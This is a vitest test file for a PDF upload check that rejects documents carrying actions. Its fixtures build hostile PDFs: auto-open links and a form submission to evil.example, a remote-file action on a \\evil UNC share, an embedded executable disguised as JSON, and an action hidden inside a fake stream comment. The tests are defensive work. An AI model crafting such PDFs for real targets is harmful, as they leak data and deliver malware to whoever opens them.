import { type PDFDict, PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib';
import { afterAll, beforeAll, expect, test } from 'vitest';
import * as make from '#testing/factories.ts';
import { as, createTestApp, type TestApp } from '#testing/test-app.ts';

// Somebody keeps a PDF that does something on the machine of whoever opens the link to it.

let testApp: TestApp;
const student = as('Student');
beforeAll(async () => {
  testApp = await createTestApp();
  const school = await make.aSchool(testApp.database.db);
  await make.aStudent(testApp.database.db, { school, ownerId: 'user-Student' });
});
afterAll(() => testApp.close());

async function upload(content: Uint8Array) {
  const form = new FormData();
  form.append('title', 'Letter');
  form.append('file', new Blob([new Uint8Array(content)]), 'letter.pdf');
  const wire = new Response(form);
  return testApp.app.inject({
    method: 'POST',
    url: '/api/wallet/documents',
    headers: { ...student, 'content-type': wire.headers.get('content-type') ?? '' },
    payload: Buffer.from(await wire.arrayBuffer()),
  });
}

type Change = (pdf: PDFDocument) => void | Promise<void>;
async function aPdf(change: Change, useObjectStreams: boolean): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  pdf.addPage([300, 400]);
  await change(pdf);
  return pdf.save({ useObjectStreams });
}

const address = { S: 'URI', URI: PDFString.of('https://evil.example/') };
const dictionary = (pdf: PDFDocument, entries: object): PDFDict =>
  pdf.context.obj(entries as never) as unknown as PDFDict;
const opening =
  (action: object, byNumber = true): Change =>
  (pdf) => {
    const object = dictionary(pdf, action);
    pdf.catalog.set(PDFName.of('OpenAction'), byNumber ? pdf.context.register(object) : object);
  };
const noted =
  (entries: object): Change =>
  (pdf) => {
    const note = dictionary(pdf, { Type: 'Annot', Rect: [0, 0, 50, 50], ...entries });
    pdf.getPage(0).node.set(PDFName.of('Annots'), pdf.context.obj([pdf.context.register(note)]));
  };
const attached =
  (name: string, content: string): Change =>
  (pdf) =>
    pdf.attach(Buffer.from(content), name);

const acting: Record<string, Change> = {
  'opens an address': opening(address),
  'opens an address, said in its catalogue': opening(address, false),
  'shows a page and then opens an address': (pdf) => {
    const next = pdf.context.register(dictionary(pdf, address));
    return opening({ S: 'GoTo', D: [0, 'Fit'], Next: next })(pdf);
  },
  'opens an address with a page': (pdf) => {
    pdf.getPage(0).node.set(PDFName.of('AA'), dictionary(pdf, { O: dictionary(pdf, address) }));
  },
  'sends what is filled in': noted({
    Subtype: 'Widget',
    A: { S: 'SubmitForm', F: PDFString.of('https://evil.example/') },
  }),
  'takes in data': opening({ S: 'ImportData', F: PDFString.of('x.fdf') }),
  'opens a file of another machine': opening({ S: 'GoToR', F: PDFString.of('\\\\\\\\evil\\\\share\\\\x.pdf') }),
  'opens a file in another': opening({ S: 'GoToE' }),
  'carries a program': attached('a.exe', 'MZ…'),
  'carries a program that calls itself JSON': attached('a.json', 'MZ…'),
  'carries a file on a page': noted({ Subtype: 'FileAttachment' }),
};
const plain: Record<string, Change> = {
  'has a link on a page': noted({ Subtype: 'Link', A: address }),
  'begins at a place': (pdf) => pdf.catalog.set(PDFName.of('OpenAction'), pdf.context.obj([pdf.getPage(0).ref, 'Fit'])),
  'goes to a page': opening({ S: 'GoTo', D: [0, 'Fit'] }),
  'carries a credential, as our own do': attached('credential.json', '{"type":["VerifiableCredential"]}'),
};
const written = [true, false];

test.each(Object.keys(acting).flatMap((what) => written.map((packed) => [what, packed] as const)))(
  'a PDF that %s is not kept (packed: %s)',
  async (what, packed) => {
    const answer = await upload(await aPdf(acting[what] as Change, packed));
    expect([answer.statusCode, answer.json().params.errmsg]).toEqual([
      415,
      expect.stringContaining('does more than show pages'),
    ]);
  },
);

test.each(Object.keys(plain).flatMap((what) => written.map((packed) => [what, packed] as const)))(
  'a PDF that %s is kept (packed: %s)',
  async (what, packed) => {
    expect((await upload(await aPdf(plain[what] as Change, packed))).statusCode).toBe(200);
  },
);

test('an action that hides between words of a stream is found', async () => {
  const bytes = Buffer.from(await aPdf(opening({ S: 'GoToR', F: PDFString.of('x') }), false)).toString('latin1');
  const hidden = bytes.replace(/(\d+ 0 obj\s*<<\s*\/S \/GoToR)/, '%stream\n$1').replace('xref', '%endstream\nxref');
  expect(hidden).toContain('%stream');
  expect((await upload(Buffer.from(hidden, 'latin1'))).statusCode).toBe(415);
});
